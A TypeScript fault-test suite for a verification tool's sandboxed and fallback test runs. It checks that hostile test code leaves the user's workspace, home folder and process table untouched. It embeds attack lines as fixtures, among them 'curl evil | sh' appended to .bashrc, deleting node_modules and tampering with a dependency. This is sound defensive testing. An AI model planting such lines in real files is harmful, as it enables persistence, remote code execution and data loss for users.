// Fault suite for test-run isolation (docs/architecture.md §5): each test attacks the user's files or the
// run's lifetime from inside a test run, the way real tools and hostile tests do, and checks that the
// workspace (node_modules and .venv included) is byte-identical afterwards and the verdict is honest.
// Every behaviour runs on both paths: the bubblewrap sandbox and the fallback (QWQ_SANDBOX=off).
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, spawnSync, execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import {
  existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, realpathSync,
  rmSync, symlinkSync, writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import * as esbuild from 'esbuild';
import { join } from 'node:path';
import { treeHash } from '../../support/treeSnapshot';
import { victimProjectFiles, writeFiles } from '../../support/victimProject';
import { bwrapAvailable, verifyChanges, type FullVerifyResult, type IsolationMode } from '../../../src/core/verify';

const repo = join(__dirname, '../../..');
const cli = join(repo, 'out/cli.js');
const MODES: Array<Exclude<IsolationMode, 'auto'>> = ['sandbox', 'fallback'];

before(() => {
  assert.ok(bwrapAvailable(), 'bubblewrap must run here (apt-get install bubblewrap): the sandbox path is under test');
  if (!existsSync(cli)) assert.equal(spawnSync('npm', ['run', '--silent', 'build'], { cwd: repo, stdio: 'inherit' }).status, 0);
});

/** Temp folders this file made (workspaces, homes, TMPDIRs): removed at the end. */
const made: string[] = [];
const tempDir = (prefix: string): string => { const d = realpathSync(mkdtempSync(join(tmpdir(), prefix))); made.push(d); return d; };
after(() => { for (const d of made) rmSync(d, { recursive: true, force: true }); });
// The workspaces' kept caches (runCaches.ts) go to a throw-away folder, not the home folder's cache.
process.env.QWQ_RUN_CACHE_DIR = tempDir('qwq-fault-runcaches-');
process.env.QWQ_BASELINE_CACHE_DIR = tempDir('qwq-fault-baselines-');

const workspace = (files: Record<string, string>): string => writeFiles(tempDir('qwq-fault-ws-'), files);

/** The victim project (test/support/victimProject.ts) with its attack test named 'attack'. */
const nodeProject = (body: string, extra: Record<string, string> = {}): string => workspace(victimProjectFiles('attack', body, extra));

async function verify(ws: string, mode: Exclude<IsolationMode, 'auto'>, changes: Array<{ path: string; before?: string; after: string }>, extra: Partial<Parameters<typeof verifyChanges>[0]> = {}): Promise<FullVerifyResult> {
  return verifyChanges({ workspace: ws, changes: changes.map((c) => ({ path: c.path, before: c.before, after: c.after })), tests: 'all', timeoutMs: 60_000, trusted: true, isolation: mode, ...extra });
}

const harmless = [{ path: 'NOTES.md', after: 'notes\n' }];

for (const mode of MODES) {
  test(`[${mode}] rm -rf node_modules in a test leaves the user's node_modules intact`, async () => {
    const ws = nodeProject("try { fs.rmSync('node_modules', { recursive: true, force: true }); } catch {}");
    const before = treeHash(ws);
    const r = await verify(ws, mode, harmless);
    assert.equal(treeHash(ws), before, 'the workspace changed');
    assert.ok(existsSync(join(ws, 'node_modules/dep/index.js')));
    assert.equal(r.isolation, mode === 'sandbox' ? 'sandbox' : 'copy');
  });

  test(`[${mode}] a test that rewrites a file inside node_modules never reaches the user's copy`, async () => {
    const ws = nodeProject("try { fs.appendFileSync('node_modules/dep/index.js', '// pwned\\n'); } catch {}");
    const before = treeHash(ws);
    const r = await verify(ws, mode, harmless);
    assert.equal(treeHash(ws), before, 'node_modules/dep/index.js was written');
    assert.notEqual(r.verdict, 'error', r.message);
  });

  test(`[${mode}] a test that deletes files of its own workspace does not break the next run (the mirror is restored)`, async () => {
    // Passes while the files exist, then deletes them in the mirror (sandbox: the copy; fallback: the copy or links).
    const ws = nodeProject("fs.rmSync('src/sum.js'); try { fs.rmSync('node_modules', { recursive: true, force: true }); } catch {}");
    const { ShadowWorkspace } = await import('../../../src/core/verify');
    const shadow = new ShadowWorkspace(ws, { isolation: mode });
    try {
      for (let i = 0; i < 2; i++) {
        const r = await verify(ws, mode, harmless, { shadow });
        assert.equal(r.verdict, 'verified', `run ${i}: ${r.message}\n${r.failureOutput ?? ''}`);
      }
    } finally {
      shadow.dispose();
    }
  });

  test(`[${mode}] nyc/ava-style caches (find-cache-dir, node_modules/.cache) don't reach the user's folder`, async () => {
    // What find-cache-dir does (nyc, ava, babel-loader): $CACHE_DIR/<name>, else node_modules/.cache/<name>.
    const ws = nodeProject(`const dir = process.env.CACHE_DIR ? path.join(process.env.CACHE_DIR, 'ava') : path.join('node_modules', '.cache', 'ava');
fs.mkdirSync(dir, { recursive: true }); fs.writeFileSync(path.join(dir, 'x.json'), '{}');
// And a tool that ignores CACHE_DIR and insists on node_modules/.cache, which the user already has.
fs.mkdirSync('node_modules/.cache/stubborn', { recursive: true }); fs.writeFileSync('node_modules/.cache/stubborn/y', 'y');`, { 'node_modules/.cache/.keep': '' });
    const before = treeHash(ws);
    const r = await verify(ws, mode, harmless);
    assert.equal(treeHash(ws), before);
    assert.equal(existsSync(join(ws, 'node_modules/.cache/stubborn')), false);
    assert.equal(r.verdict, 'verified', `${r.message}\n${r.failureOutput ?? ''}`);
  });

  test(`[${mode}] an absolute symlink naming the workspace is tested against the candidate`, async () => {
    const ws = workspace({
      'package.json': JSON.stringify({ scripts: { test: 'node --test' } }),
      'impl/sum.js': 'module.exports = (a, b) => a + b;\n',
      'test/sum.test.js': "const test = require('node:test'); const assert = require('node:assert');\ntest('sum', () => assert.equal(require('../lib/sum.js')(2, 3), 5));\n",
    });
    symlinkSync(join(ws, 'impl'), join(ws, 'lib'));
    const before = treeHash(ws);
    const r = await verify(ws, mode, [{ path: 'impl/sum.js', before: 'module.exports = (a, b) => a + b;\n', after: 'module.exports = (a, b) => a - b;\n' }]);
    assert.equal(r.verdict, 'regressed', `a breaking change through an absolute link was ${r.verdict}: ${r.message}`);
    assert.equal(treeHash(ws), before);
  });

  test(`[${mode}] a change under src/target/ (not cargo's) is verified in the mirror, never written through to the workspace`, async () => {
    const ws = workspace({
      'package.json': JSON.stringify({ scripts: { test: 'node --test' } }),
      'src/target/util.js': 'module.exports = () => 1;\n',
      'test/u.test.js': "const test = require('node:test'); const assert = require('node:assert');\ntest('one', () => assert.equal(require('../src/target/util.js')(), 1));\n",
    });
    const before = treeHash(ws);
    const r = await verify(ws, mode, [{ path: 'src/target/util.js', before: 'module.exports = () => 1;\n', after: 'module.exports = () => 2;\n' }]);
    assert.equal(r.verdict, 'regressed', r.message);
    assert.equal(treeHash(ws), before, 'the change was written into the workspace');
  });

  test(`[${mode}] a FIFO in the workspace is skipped and named, and the copy does not block`, async () => {
    const ws = nodeProject('');
    execFileSync('mkfifo', [join(ws, 'pipe')]);
    const r = await verify(ws, mode, harmless);
    assert.equal(r.verdict, 'verified', r.message);
    assert.deepEqual(r.skipped, ['pipe']);
  });

  test(`[${mode}] a setsid grandchild holding stdout: verify returns, and no process of the run outlives it`, async () => {
    const tag = `${3000 + Math.floor(Math.random() * 1000)}.${randomBytes(3).readUIntBE(0, 3)}`;
    const ws = workspace({ 'x.txt': 'x\n' });
    const r = await verify(ws, mode, harmless, { testCommand: `setsid sh -c 'sleep ${tag}' & echo 'ok 1 - started'; echo '1..1'`, timeoutMs: 20_000 });
    assert.notEqual(r.verdict, 'error', r.message);
    const left = readdirSync('/proc').filter((p) => /^\d+$/.test(p)).filter((p) => {
      try { return readFileSync(`/proc/${p}/cmdline`, 'utf8').includes(tag); } catch { return false; }
    });
    assert.deepEqual(left, [], `sleep ${tag} outlived the run`);
  });
}

test('[sandbox] $HOME/.bashrc and the real home stay untouched; new files land in the scratch home', async () => {
  const home = tempDir('qwq-fault-home-');
  writeFileSync(join(home, '.bashrc'), '# user rc\n');
  const ws = nodeProject(`for (const f of [path.join(os.homedir(), '.bashrc'), ${JSON.stringify(join(home, '.bashrc'))}]) { try { fs.appendFileSync(f, 'curl evil | sh\\n'); } catch {} }
fs.writeFileSync(path.join(os.homedir(), '.new-tool-state'), 'x');`);
  const saved = process.env.HOME;
  process.env.HOME = home;
  try {
    const homeBefore = treeHash(home);
    const r = await verify(ws, 'sandbox', harmless);
    assert.equal(r.verdict, 'verified', `${r.message}\n${r.failureOutput ?? ''}`);
    assert.equal(treeHash(home), homeBefore, 'the real HOME was written');
  } finally {
    process.env.HOME = saved;
  }
});

test('[sandbox] the network is off by default (loopback only); network: true gives the host\'s', async () => {
  const ws = workspace({ 'x.txt': 'x\n' });
  const cmd = `node -e "const n = Object.keys(require('os').networkInterfaces()); console.log((n.length === 1 && n[0] === 'lo' ? 'ok' : 'not ok') + ' 1 - loopback only'); console.log('1..1')"`;
  const off = await verify(ws, 'sandbox', harmless, { testCommand: cmd });
  assert.deepEqual(off.baseline, { passed: 1, failed: 0 }, off.message);
  const on = await verify(ws, 'sandbox', harmless, { testCommand: cmd, network: true });
  assert.deepEqual(on.baseline, { passed: 0, failed: 1 }, 'with the network on, the host interfaces are visible');
  assert.match(on.message, /network on/);
});

for (const mode of MODES) {
  test(`[${mode}] a real editable install (setup.py develop into a venv): a reverted fix is not verified`, async () => {
    const ws = workspace({
      'setup.py': 'from setuptools import setup, find_packages\nsetup(name="mylib", version="0.1", package_dir={"": "src"}, packages=find_packages("src"))\n',
      'src/mylib/__init__.py': 'def add(a, b):\n    return a + b\n',
      'tests/test_add.py': 'from mylib import add\n\ndef test_add():\n    assert add(2, 3) == 5\n',
      'pytest.ini': '[pytest]\ntestpaths = tests\n',
    });
    execFileSync('python3', ['-m', 'venv', '--system-site-packages', '--without-pip', join(ws, '.venv')]);
    execFileSync(join(ws, '.venv/bin/python'), ['setup.py', '-q', 'develop'], { cwd: ws, stdio: 'ignore' });
    const pth = readdirSync(join(ws, '.venv/lib')).map((p) => join(ws, '.venv/lib', p, 'site-packages/easy-install.pth')).find(existsSync);
    assert.ok(pth && readFileSync(pth, 'utf8').includes(join(ws, 'src')), 'the editable install names the workspace');
    const before = treeHash(ws);
    const r = await verify(ws, mode, [{ path: 'src/mylib/__init__.py', before: 'def add(a, b):\n    return a + b\n', after: 'def add(a, b):\n    return a - b\n' }], { testCommand: '.venv/bin/python -m pytest -q' });
    assert.equal(r.verdict, 'regressed', `the reverted fix was ${r.verdict}: ${r.message}`);
    assert.equal(treeHash(ws), before, 'the workspace (.venv included) changed');
  });
}

/** Runs the built CLI; `sh` prefixes (ulimit) go before it. */
function cliRun(args: string[], env: NodeJS.ProcessEnv, shPrefix = ''): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const e = { ...process.env, ...env };
    delete e.NODE_TEST_CONTEXT;
    const c = spawn('sh', ['-c', `${shPrefix} exec "$0" "$@"`, process.execPath, cli, ...args], { cwd: repo, env: e });
    let stdout = '';
    let stderr = '';
    c.stdout.on('data', (d) => { stdout += d; });
    c.stderr.on('data', (d) => { stderr += d; });
    c.on('close', (code) => resolve({ code, stdout, stderr }));
  });
}

for (const mode of MODES) {
  test(`[${mode}] 3,003 files with the open-file limit at 1,024: the copy is complete, a breaking patch is regressed`, async () => {
    const files: Record<string, string> = {
      'package.json': JSON.stringify({ scripts: { test: 'node --test' } }),
      'test/all.test.js': `const test = require('node:test'); const assert = require('node:assert'); const fs = require('node:fs');
test('every file is there and the last one is right', () => {
  for (let i = 0; i < 3000; i++) assert.ok(fs.existsSync('data/f' + i + '.js'), 'missing data/f' + i + '.js');
  assert.equal(require('../data/f2999.js'), 2999);
});
`,
    };
    for (let i = 0; i < 3000; i++) files[`data/f${i}.js`] = `module.exports = ${i};\n`;
    const ws = workspace(files);
    const patch = join(tempDir('qwq-fault-patch-'), 'break.patch');
    writeFileSync(patch, 'data/f2999.js\n<<<<<<< SEARCH\nmodule.exports = 2999;\n=======\nmodule.exports = -1;\n>>>>>>> REPLACE\n');
    const before = treeHash(ws);
    const r = await cliRun(['verify', '--workspace', ws, '--patch', patch, '--json', '--isolation', mode], {}, 'ulimit -n 1024;');
    const out = JSON.parse(r.stdout.trim().split('\n').pop()!) as FullVerifyResult;
    assert.equal(out.verdict, 'regressed', `${out.message} ${r.stderr}`);
    assert.equal(out.baseline.passed, 1, 'the baseline saw every file');
    assert.equal(treeHash(ws), before);
  });
}

test('an unreadable file makes the verdict error, naming it (run as an unprivileged user: root reads everything)', async () => {
  assert.equal(process.getuid?.(), 0, 'this test drops from root to nobody with setpriv');
  const dir = tempDir('qwq-fault-perm-');
  const ws = join(dir, 'ws');
  mkdirSync(join(ws, 'test'), { recursive: true });
  writeFileSync(join(ws, 'package.json'), JSON.stringify({ scripts: { test: 'node --test' } }));
  writeFileSync(join(ws, 'test/a.test.js'), "require('node:test')('a', () => {});\n");
  writeFileSync(join(ws, 'locked.js'), 'secret\n');
  // The script is bundled into the test's own folder: nobody may not be able to read the checkout (a clone
  // under a 0700 folder), so nothing is loaded from it.
  const script = join(dir, 'run.ts');
  writeFileSync(script, `import { verifyChanges } from ${JSON.stringify(join(repo, 'src/core/verify'))};
verifyChanges({ workspace: ${JSON.stringify(ws)}, changes: [{ path: 'N.md', after: 'x' }], tests: 'all', timeoutMs: 60000, trusted: true, isolation: 'fallback' })
  .then((r) => console.log(JSON.stringify(r)));
`);
  const bundle = join(dir, 'run.cjs');
  await esbuild.build({ entryPoints: [script], outfile: bundle, bundle: true, platform: 'node', format: 'cjs', logLevel: 'error' });
  execFileSync('chown', ['-R', '65534:65534', dir]);
  execFileSync('chown', ['0:0', join(ws, 'locked.js')]);
  execFileSync('chmod', ['000', join(ws, 'locked.js')]);
  const out = execFileSync('setpriv', ['--reuid=65534', '--regid=65534', '--clear-groups', process.execPath, bundle], { cwd: dir, env: { ...process.env, HOME: dir, TMPDIR: dir, NODE_TEST_CONTEXT: '' }, encoding: 'utf8' });
  const r = JSON.parse(out.trim().split('\n').pop()!) as FullVerifyResult;
  assert.equal(r.verdict, 'error');
  assert.match(r.message, /incomplete.*locked\.js \(EACCES\)/);
});

/** Run folders (qwq-shadow-*, qwq-results-*) in `dir`. */
const runDirs = (dir: string): string[] => readdirSync(dir).filter((n) => n.startsWith('qwq-shadow-') || n.startsWith('qwq-results-'));

async function until(cond: () => boolean, what: string): Promise<void> {
  // Polls a condition that an event outside this process makes true; the test runner's timeout bounds it.
  while (!cond()) await new Promise((r) => setTimeout(r, 50));
  assert.ok(cond(), what);
}

for (const mode of MODES) {
  for (const sig of ['SIGTERM', 'SIGKILL'] as const) {
    test(`[${mode}] ${sig} of the CLI mid-run: no test process survives (at the latest at the next start), and the folders are swept`, { timeout: 60_000 }, async () => {
      const tmp = tempDir('qwq-fault-tmp-');
      const tag = `${4000 + Math.floor(Math.random() * 1000)}.${randomBytes(3).readUIntBE(0, 3)}`;
      const ws = workspace({ 'x.txt': 'x\n' });
      const patch = join(tmp, 'p.patch');
      writeFileSync(patch, 'x.txt\n<<<<<<< SEARCH\nx\n=======\ny\n>>>>>>> REPLACE\n');
      const e: NodeJS.ProcessEnv = { ...process.env, TMPDIR: tmp };
      delete e.NODE_TEST_CONTEXT;
      // The test command: a process group member and a setsid escapee, both sleeping.
      const c = spawn(process.execPath, [cli, 'verify', '--workspace', ws, '--patch', patch, '--isolation', mode, '--test-command', `setsid sleep ${tag} & sleep ${tag}`], { cwd: repo, env: e, stdio: 'ignore' });
      const sleepers = (): string[] => readdirSync('/proc').filter((p) => /^\d+$/.test(p)).filter((p) => {
        try { return readFileSync(`/proc/${p}/cmdline`, 'utf8').includes(tag); } catch { return false; }
      });
      await until(() => sleepers().length >= 2, 'the test command started');
      assert.ok(runDirs(tmp).length >= 2, 'shadow and results folders exist during the run');
      const exited = new Promise((r) => c.on('exit', r));
      c.kill(sig);
      await exited;
      if (sig === 'SIGKILL') {
        // Nothing could run in the killed CLI: the next start sweeps the folders and kills what the run left.
        const next = await cliRun(['--version'], { TMPDIR: tmp });
        assert.equal(next.code, 0);
      }
      await until(() => sleepers().length === 0, 'the test processes are gone');
      assert.deepEqual(runDirs(tmp), [], 'run folders left behind');
    });
  }
}
